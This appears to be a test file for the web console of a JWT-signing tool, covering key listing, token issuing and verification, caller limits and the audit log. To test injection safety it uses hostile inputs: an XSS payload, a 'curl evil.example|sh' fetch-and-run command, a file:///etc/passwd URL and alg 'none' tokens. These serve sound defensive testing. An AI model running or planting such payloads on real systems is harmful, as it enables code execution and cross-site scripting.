import { generateKeyPairSync } from "node:crypto";
import { readFile, writeFile } from "node:fs/promises";
import { basename, dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { folderIssuer } from "../../src/console/folder-issuer.js";
import { signet } from "../cli/command.js";
import { issuerFolders } from "../cli/issuer-folders.js";
import { scratchDirectories } from "../contracts/scratch.js";
import { testServers } from "../verify/serving.js";
import { consoleAt, surroundingsAt } from "./fixture.js";

const HOSTILE = '</script><img src=x onerror=alert(1)>javascript:alert(1)\u202e\u2066"\u0000';
const CALLERS = {
  web: { limits: { maxTtlSeconds: 600, allowedAudiences: ["my-api", "other"], fixedClaims: { tenant: "{caller}" } } },
  wide: { limits: { maxTtlSeconds: 999_999 } },
  prom: { may: ["metrics"] },
  ci: { trusts: [{ issuer: "https://idp.example", claims: { sub: HOSTILE } }] },
};

const scratch = scratchDirectories();
const issuerAt = issuerFolders(scratch, ["--issuer", "https://issuer.example"]);

let cwd: string;
let page: Awaited<ReturnType<typeof consoleAt>>;
beforeAll(async () => {
  cwd = await issuerAt();
  const { stdout } = await signet(["keys", "list", "--json"], { cwd });
  const [, standby] = (JSON.parse(stdout) as { keys: { kid: string }[] }).keys;
  expect(
    (await signet(["keys", "revoke", standby?.kid ?? "", "--reason", HOSTILE.replace("\u0000", ""), "--yes"], { cwd })).code,
  ).toBe(0);
  const config = { issuer: "https://issuer.example", limits: { allowedAudiences: ["my-api"] }, callers: CALLERS };
  await writeFile(join(cwd, "signet.json"), JSON.stringify(config));
  page = await consoleAt(cwd);
  await page.enter();
});
afterAll(async () => {
  await page.close();
  expect(page.unexpected).toStrictEqual([]);
});

describe("the keys", () => {
  it("are shown as the command lists them, with what each needs to be copied", async () => {
    const { json } = await page.call("/api/keys");
    const listed = JSON.parse((await signet(["keys", "list", "--json", "--timeline"], { cwd })).stdout);
    expect(json.keys.map(({ kid, state }: { kid: string; state: string }) => [kid, state])).toStrictEqual(
      listed.keys.map(({ kid, state }: { kid: string; state: string }) => [kid, state]),
    );
    const [active] = json.keys;
    expect(active).toMatchObject({
      state: "active",
      alg: "ES256",
      custody: "file",
      origin: "created",
      isRevocable: true,
      awaitsUpload: false,
      unprovenSince: null,
      pem: expect.stringMatching(/^-----BEGIN PUBLIC KEY-----\n[\s\S]*-----END PUBLIC KEY-----$/),
      jwk: { kty: "EC", kid: active.kid },
      why: expect.stringContaining("It signs since"),
    });
    expect(json.lives.lives.map(({ name }: { name: string }) => name)).toStrictEqual(
      listed.timeline.lives.map(({ name }: { name: string }) => name),
    );
    expect(json.lives.lives.find(({ name }: { name: string }) => name === active.kid).knownAt).toBe(active.knownAt);
    expect(json).toMatchObject({
      issuer: "https://issuer.example",
      place: cwd,
      rights: { rotate: true, revoke: true },
      policy: expect.arrayContaining(["a key signs for 90 days"]),
    });
    expect(json.sentence).toMatch(/^[\w-]{8}… signs; /);
    expect(JSON.stringify(json)).not.toContain('"d":');
  });

  it("name a folder below home as a shell does", async () => {
    const issuer = await folderIssuer(surroundingsAt(cwd, { HOME: dirname(cwd) }), undefined, () => undefined);
    expect(issuer.place).toStrictEqual({ kind: "folder", words: `~/${basename(cwd)}` });
  });

  it("have a line of health that names what is not well", async () => {
    const { json } = await page.call("/api/keys");
    const items = new Map(json.health.items.map((item: { name: string }) => [item.name, item]));
    expect([...items.keys()]).toStrictEqual([
      "keys",
      "public documents",
      "active document",
      "last change",
      "last sweep",
      "standbys",
      "audit log",
    ]);
    expect(items.get("public documents")).toMatchObject({ isWell: true });
    expect(items.get("active document")).toMatchObject({
      isWell: true,
      words: "issuers sign with the key that the keyring names",
    });
    await writeFile(join(cwd, ".signet/public/jwks.json"), '{"keys":[]}');
    const { health } = (await page.call("/api/keys")).json;
    expect(health).toMatchObject({ isWell: false });
    expect(health.items[1]).toMatchObject({
      name: "public documents",
      isWell: false,
      words: expect.stringContaining("the next tick publishes them"),
    });
    expect((await signet(["keys", "tick"], { cwd })).code).toBe(0);
    expect((await page.call("/api/keys")).json.health.items[1].isWell).toBe(true);
  });
});

describe("a token", () => {
  it("that is issued is one within the limits in force, and comes with the same request elsewhere", async () => {
    const request = { claims: { sub: "alice", aud: "my-api" }, ttl: 60, setIat: true };
    const { status, json } = await page.call("/api/issue", { request });
    expect(status).toBe(200);
    expect(JSON.parse(json.claims)).toMatchObject({ sub: "alice", aud: "my-api", iss: "https://issuer.example" });
    const verified = await signet(["verify", json.token, "--audience", "my-api"], { cwd });
    expect(verified.code).toBe(0);
    expect(json.commands.map(({ name }: { name: string }) => name)).toStrictEqual([
      "signet",
      "curl",
      "Node",
      "Python",
      "Go",
      "Java",
    ]);
    const same = await page.call("/api/issue-commands", { request });
    expect(same.json).toStrictEqual({ commands: json.commands });
    const [command] = json.commands;
    expect(command.text).toBe(`signet issue --claims '{"sub":"alice","aud":"my-api"}' --ttl 60s --iat`);
  });

  it.each([
    [{ claims: { aud: "other" } }, undefined, 403, "audience_not_allowed"],
    [{ claims: { aud: "my-api" }, ttl: 601 }, "web", 403, "ttl_exceeds_limit"],
    [{ claims: { aud: "my-api", tenant: "x" } }, "web", 403, "claim_not_allowed"],
    [{ claims: { aud: "my-api" } }, "prom", 403, "caller_not_allowed"],
    [{ claims: { aud: "my-api" } }, "none", 404, "caller_missing"],
    [{ claims: { aud: "my-api" } }, "__proto__", 404, "caller_missing"],
  ])("%j as %s is refused as any other door refuses it", async (request, caller, status, code) => {
    const refused = await page.call("/api/issue", { request, ...(caller !== undefined && { caller }) });
    expect({ status: refused.status, code: refused.json.error.code }).toStrictEqual({ status, code });
  });

  it("of a caller has the claims that are fixed for it, and a form that says so", async () => {
    const { json } = await page.call("/api/issue", { request: { claims: { aud: "my-api" } }, caller: "web" });
    expect(JSON.parse(json.claims)).toMatchObject({ tenant: "web" });
    // The command itself issues within the issuer's limits alone.
    expect(json.commands.map(({ name }: { name: string }) => name)).not.toContain("signet");
    const form = (await page.call("/api/issue-form", { caller: "web" })).json;
    expect(form).toMatchObject({
      caller: "web",
      callers: ["web", "wide", "prom", "ci"],
      right: true,
      ttl: { default: 600, max: 600, isRequired: false },
      fixed: [{ name: "tenant", value: "web" }],
      takesOthers: true,
      types: ["JWT"],
      always: [],
    });
    expect(form.fields).toStrictEqual([
      { claim: "sub", isRequired: false, type: "text" },
      { claim: "aud", isRequired: true, type: "texts", values: ["my-api"] },
    ]);
    expect((await page.call("/api/issue-form", { caller: "prom" })).json.right).toContain("is issued no tokens");
    expect((await page.call("/api/issue-form", { caller: "none" })).status).toBe(404);
  });

  it("that is pasted is judged by this issuer's keys, with what was expected and what was not checked", async () => {
    const token = (await signet(["issue", "sub=alice", "aud=my-api", "--iat"], { cwd })).stdout.trim();
    const good = (await page.call("/api/verify", { token: `Authorization: Bearer ${token}\n`, by: "own", audience: "my-api" }))
      .json;
    expect([good.header, good.claims].map((text) => JSON.parse(text))).toMatchObject([{ alg: "ES256" }, { sub: "alice" }]);
    expect(good).toMatchObject({
      verdict: { isValid: true, unchecked: [], words: expect.stringMatching(/^signed by [\w-]{43} \(ES256\), expires in /) },
    });
    expect(good.times.map(({ claim }: { claim: string }) => claim)).toStrictEqual(["iat", "exp"]);
    const unchecked = (await page.call("/api/verify", { token, by: "own" })).json;
    expect(unchecked.verdict).toMatchObject({ isValid: true, unchecked: ["the audience was not checked: none was named"] });
    const other = (await page.call("/api/verify", { token, by: "own", audience: "other" })).json;
    expect(other.verdict).toMatchObject({
      isValid: false,
      code: "token_audience_refused",
      words: expect.stringContaining("(accepted: other)"),
    });
    const forged = `${token.slice(0, -6)}AAAAAA`;
    expect((await page.call("/api/verify", { token: forged, by: "own" })).json.verdict).toMatchObject({
      isValid: false,
      code: "token_signature_invalid",
    });
    const none = (await page.call("/api/verify", { token: "no token", by: "own" })).json;
    expect(none).toMatchObject({ header: null, claims: null, times: [], verdict: { isValid: false, code: "token_malformed" } });
    // What is refused is said without the command's options.
    for (const { verdict } of [other, none]) expect(verdict.words).not.toContain("--");
  });

  it("says what had to be put in force before it was issued", async () => {
    const path = join(cwd, "signet.json");
    const before = await readFile(path, "utf8");
    const config = JSON.parse(before) as { limits: object };
    expect((await page.call("/api/issue", { request: { claims: { aud: "my-api" } } })).json.notes).toStrictEqual([]);
    await writeFile(path, JSON.stringify({ ...config, limits: { ...config.limits, maxTtlSeconds: 90_000 } }));
    const { json } = await page.call("/api/issue", { request: { claims: { aud: "my-api" } } });
    await writeFile(path, before);
    expect(json.notes).toStrictEqual(["the limits of the config were changed: they are in force now"]);
  });

  it("that is nested deeply is refused, at no great cost; one with many members stands in one line", async () => {
    const encoded = (text: string) => Buffer.from(text).toString("base64url");
    const tokenOf = (claims: string) => `${encoded('{"alg":"ES256"}')}.${encoded(claims)}.AA`;
    for (const depth of [64, 4_000]) {
      const deep = `{"a":${"[".repeat(depth)}${Array(10_000).fill(0).join()}${"]".repeat(depth)}}`;
      const answer = (await page.call("/api/verify", { token: tokenOf(deep), by: "own" })).json;
      expect(answer).toMatchObject({
        claims: null,
        verdict: { isValid: false, code: "token_malformed", words: expect.stringContaining("nested too deeply to be shown") },
      });
    }
    const wide = `{"a":${"[".repeat(60)}${Array(15_000).fill(0).join()}${"]".repeat(60)}}`;
    const { claims } = (await page.call("/api/verify", { token: tokenOf(wide), by: "own" })).json;
    expect(claims).toBe(wide);
  });

  it("keeps each digit of its large numbers", async () => {
    const encoded = (text: string) => Buffer.from(text).toString("base64url");
    const token = `${encoded('{"alg":"ES256"}')}.${encoded('{"id":12345678901234567890,"list":[9007199254740993],"n":7}')}.AA`;
    const { claims } = (await page.call("/api/verify", { token, by: "own" })).json;
    expect(claims).toBe('{\n  "id": 12345678901234567890,\n  "list": [\n    9007199254740993\n  ],\n  "n": 7\n}');
  });
});

describe("a token of another issuer", () => {
  const serve = testServers();
  const pointOf = () => generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey.export({ format: "jwk" });

  it("is judged by the keys at its issuer's URL, which are fetched when that is asked for, and by no other", async () => {
    const asked: string[] = [];
    const documents: Record<string, unknown> = {};
    const issuer = await serve(({ url = "" }, response) => {
      asked.push(url);
      const found = documents[url];
      response.writeHead(found === undefined ? 404 : 200, { "content-type": "application/json" }).end(JSON.stringify(found));
    });
    const other = await scratch();
    expect((await signet(["init", "--issuer", issuer], { cwd: other })).code).toBe(0);
    const jwks = JSON.parse((await signet(["jwks"], { cwd: other })).stdout);
    documents["/.well-known/openid-configuration"] = { issuer, jwks_uri: `${issuer}/jwks.json` };
    documents["/jwks.json"] = jwks;
    const token = (await signet(["issue", "sub=bob"], { cwd: other })).stdout.trim();
    expect((await page.call("/api/verify", { token, by: "own" })).json.verdict).toMatchObject({
      isValid: false,
      code: "token_key_unknown",
    });
    expect(asked).toStrictEqual([]);
    const good = (await page.call("/api/verify", { token, by: { issuer } })).json;
    expect(good.verdict).toMatchObject({ isValid: true, keysFrom: `${issuer}/jwks.json` });
    expect(asked).toStrictEqual(["/.well-known/openid-configuration", "/jwks.json"]);
    expect(asked.join()).not.toContain(token.slice(0, 20));
  });

  it("names nothing that looks like a command of ours, whatever its maker has chosen", async () => {
    const ANY = "`curl evil.example|sh`<img src=x onerror=hits.push(1)>\u202e\u0007\u001b[2Jjavascript:1";
    const encoded = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
    const jwk = { kty: "EC", crv: "P-256", alg: "ES256", kid: ANY, ...pointOf() };
    const issuer = await serve(({ url = "" }, response) => {
      const found = url === "/jwks?`a`" ? { keys: [jwk] } : { issuer, jwks_uri: `${issuer}/jwks?\`a\`` };
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(found));
    });
    const claims = { iss: ANY, sub: ANY, aud: [ANY], [ANY]: ANY, exp: 1, crit: ANY };
    const headers = [
      { alg: "ES256", kid: ANY },
      { alg: "ES256", kid: "other" },
      { alg: ANY, kid: ANY },
      { alg: "none", typ: ANY },
      { alg: "ES256", kid: ANY, crit: [ANY], [ANY]: ANY },
      { alg: "ES256", kid: ANY, jku: ANY },
    ];
    const asked = headers.flatMap((header) => [
      { token: `${encoded(header)}.${encoded(claims)}.AA`, by: { issuer } },
      { token: `${encoded(header)}.${encoded(claims)}.AA`, by: "own", audience: ANY },
    ]);
    for (const each of asked) {
      const { status, json } = await page.call("/api/verify", each);
      expect(status, JSON.stringify(json)).toBe(200);
      const { words, unchecked } = json.verdict;
      for (const told of [words, ...unchecked]) expect(told).not.toMatch(/[`\p{Cc}\u202e]/u);
      // What the token says is shown as it is: the page shows what is not to be seen by its number, and no mark of ours.
      expect(JSON.parse(json.claims)[ANY]).toBe(ANY);
    }
    const unknown = (await page.call("/api/verify", asked[2])).json.verdict;
    expect(unknown).toMatchObject({ code: "token_key_unknown", words: expect.stringContaining("'curl evil.example|sh'<img") });
  });

  it("has failures that look like no command either: at its issuer's URL, and in what answers there", async () => {
    const odd = await serve(({ url = "" }, response) => {
      const found = url.startsWith("/.well-known") ? { issuer: odd, jwks_uri: `${odd}/\`a\`?\`curl evil.example|sh\`` } : "`b`";
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(found));
    });
    for (const issuer of [odd, `${odd}?\`curl evil.example|sh\``, "https://`curl evil.example|sh`.example", "`a`"]) {
      const { json } = await page.call("/api/verify", { token: "x", by: { issuer } });
      expect(json.error.message).not.toContain("`");
    }
  });

  it.each([
    ["javascript:alert(1)", "invalid_request"],
    ["file:///etc/passwd", "invalid_request"],
    ["not a url", "invalid_request"],
    ["http://issuer.example", "jwks_misconfigured"],
  ])("is not looked for at %s", async (url, code) => {
    const refused = await page.call("/api/verify", { token: "x", by: { issuer: url } });
    expect(refused.json.error.code).toBe(code);
  });
});

describe("the callers", () => {
  it("have the limits in force, each with whose it is", async () => {
    const { json } = await page.call("/api/callers");
    const named = new Map(json.callers.map((caller: { name: string }) => [caller.name, caller]));
    const limitsOf = (name: string) =>
      Object.fromEntries(
        (named.get(name) as { limits: { member: string; from: string; value: unknown }[] }).limits.map(
          ({ member, from, value }) => [member, [from, value]],
        ),
      );
    expect(limitsOf("web")).toMatchObject({
      maxTtlSeconds: ["caller", 600],
      allowedAudiences: ["issuer", ["my-api"]],
      requireExpiration: ["issuer", true],
    });
    expect(limitsOf("wide")).toMatchObject({ maxTtlSeconds: ["issuer", 86_400] });
    expect(named.get("prom")).toMatchObject({ may: ["metrics"], lastUse: null, lastUseWords: "not yet" });
    expect(named.get("web")).toMatchObject({ may: ["issue", "metrics"] });
    expect(json.usesUnknown).toBeNull();
    expect(JSON.stringify(json)).not.toContain("sha256");
  });
});

describe("the audit log", () => {
  it("is the newest first, whole, and found by what stands in it", async () => {
    const { json } = await page.call("/api/audit");
    const all = (JSON.parse((await signet(["keys", "history", "--json"], { cwd })).stdout) as { entries: { number: number }[] })
      .entries;
    expect(json.entries.map(({ number }: { number: number }) => number)).toStrictEqual(all.map(({ number }) => number).reverse());
    const [count, head] = (await signet(["audit", "verify"], { cwd })).stdout.trim().split(" ");
    expect({ count: String(json.count), head: json.head, more: json.more }).toStrictEqual({ count, head, more: false });
    expect(json.chain).toStrictEqual({ isIntact: true, words: `the audit log is whole: ${count} entries, as the keyring says` });
    const found = (await page.call("/api/audit", { search: "KEY.REVOKED" })).json.entries;
    expect(found).toMatchObject([{ event: "key.revoked", words: "a key was revoked" }]);
    const older = (await page.call("/api/audit", { before: 3 })).json.entries;
    expect(older.map(({ number }: { number: number }) => number)).toStrictEqual([2, 1]);
    expect((await page.call("/api/audit", { search: "(.*)+$" })).json.entries).toStrictEqual([]);
  });
});

describe("what strangers have chosen", () => {
  it("comes as the data of JSON alone, never as a page", async () => {
    const token = `${Buffer.from(JSON.stringify({ alg: "none", kid: HOSTILE })).toString("base64url")}.${Buffer.from(JSON.stringify({ [HOSTILE]: HOSTILE })).toString("base64url")}.AA`;
    const answers = [
      await page.call("/api/verify", { token, by: "own" }),
      await page.call("/api/callers"),
      await page.call("/api/audit", { search: "onerror" }),
      await page.call("/api/issue-commands", { request: { claims: { sub: HOSTILE } } }),
      await page.call("/api/preview", { change: "revoke", kid: HOSTILE }),
      await page.call("/api/keys", { [HOSTILE]: 1 }),
    ];
    for (const { headers, text } of answers) {
      expect(headers).toMatchObject({ "content-type": "application/json", "x-content-type-options": "nosniff" });
      expect(() => JSON.parse(text)).not.toThrow();
    }
    const [verified, callers, audit, commands] = answers.map(({ json }) => json);
    expect(JSON.parse(verified.header).kid).toBe(HOSTILE);
    expect(JSON.parse(verified.claims)).toStrictEqual({ [HOSTILE]: HOSTILE });
    const revoked = audit.entries.find(({ event }: { event: string }) => event === "key.revoked");
    expect(revoked.why).toBe(HOSTILE.replace("\u0000", ""));
    expect(callers.callers.find(({ name }: { name: string }) => name === "ci").proofs.join()).toContain("onerror");
    // What is to be pasted into a terminal has nothing that a terminal obeys, and nothing that cannot be seen.
    for (const { text } of commands.commands) expect(text).toMatch(/^[\x20-\x7e\n\t]*$/);
  });
});
